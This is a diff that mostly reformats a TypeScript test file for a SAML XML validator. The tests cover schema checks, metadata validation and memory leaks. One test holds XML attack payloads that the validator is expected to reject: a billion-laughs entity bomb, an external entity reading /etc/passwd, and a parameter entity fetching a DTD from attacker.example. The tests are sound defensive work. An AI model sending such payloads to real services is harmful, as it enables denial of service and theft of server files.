@@ -9,7 +9,8 @@ import { createXmlValidator, XmlRejected } from '../../src/saml/validator.js';
 import { sampleMessages } from '../../bench/lib/saml-messages.js';
 
 const validator = createXmlValidator(100_000);
-const request = (extra = '', issuer = 'https://sp.example.test') => `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"${extra}><saml:Issuer>${issuer}</saml:Issuer></samlp:AuthnRequest>`;
+const request = (extra = '', issuer = 'https://sp.example.test') =>
+  `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"${extra}><saml:Issuer>${issuer}</saml:Issuer></samlp:AuthnRequest>`;
 
 function reason(xml: string | Buffer, kind: 'protocol' | 'metadata' = 'protocol') {
   try {
@@ -30,14 +31,16 @@ test('valid messages pass; schema violations and unexpected roots do not', async
   expect(reason(request().replace(' ID="_a1"', ''))).toBe('invalid'); // ID is required
   expect(reason(request().replace('IssueInstant="2026-01-01T00:00:00Z"', 'IssueInstant="yesterday"'))).toBe('invalid');
   expect(reason(request().replace(/samlp:AuthnRequest/g, 'samlp:Nonsense'))).toBe('invalid');
-  const assertion = '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>x</saml:Issuer></saml:Assertion>';
+  const assertion =
+    '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>x</saml:Issuer></saml:Assertion>';
   expect(reason(assertion)).toBe('invalid'); // valid under the schema set, but not a message we read
   expect(reason(request().replace(/urn:oasis:names:tc:SAML:2.0:protocol/, 'urn:example:other'))).toBe('invalid');
 });
 
 test('DTDs and entities are refused before parsing: billion laughs, external entities, parameter entities', () => {
-  const laughs = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
-    + request('', '&c;');
+  const laughs =
+    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>' +
+    request('', '&c;');
   expect(reason(laughs)).toBe('dtd');
   expect(reason(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${request('', '&x;')}`)).toBe('dtd');
   expect(reason(`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>${request()}`)).toBe('dtd');
@@ -65,8 +68,10 @@ test('oversized and malformed input', () => {
 });
 
 test('metadata documents are validated against the metadata schema', () => {
-  const md = (inner: string) => `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://sp.example.test"><md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">${inner}</md:SPSSODescriptor></md:EntityDescriptor>`;
-  const acs = '<md:AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://sp.example.test/acs" index="0"/>';
+  const md = (inner: string) =>
+    `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://sp.example.test"><md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">${inner}</md:SPSSODescriptor></md:EntityDescriptor>`;
+  const acs =
+    '<md:AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://sp.example.test/acs" index="0"/>';
   expect(reason(md(acs), 'metadata')).toBe('valid');
   expect(reason(md(''), 'metadata')).toBe('invalid'); // an SP needs an ACS
   expect(reason(md(acs), 'protocol')).toBe('invalid');
@@ -76,9 +81,16 @@ test('metadata documents are validated against the metadata schema', () => {
 test('no leak: 2000 calls on a signed response leave heap and RSS flat after garbage collection', async () => {
   setFlagsFromString('--expose-gc');
   const gc = runInNewContext('gc') as () => void;
-  const settle = async () => { for (let i = 0; i < 4; i++) { gc(); await new Promise((r) => setImmediate(r)); } };
+  const settle = async () => {
+    for (let i = 0; i < 4; i++) {
+      gc();
+      await new Promise((r) => setImmediate(r));
+    }
+  };
   const { response } = await sampleMessages();
-  const round = () => { for (let i = 0; i < 2000; i++) validator.validate(response, 'protocol'); };
+  const round = () => {
+    for (let i = 0; i < 2000; i++) validator.validate(response, 'protocol');
+  };
   round(); // allocator and heap reach their working size
   await settle();
   const before = process.memoryUsage();
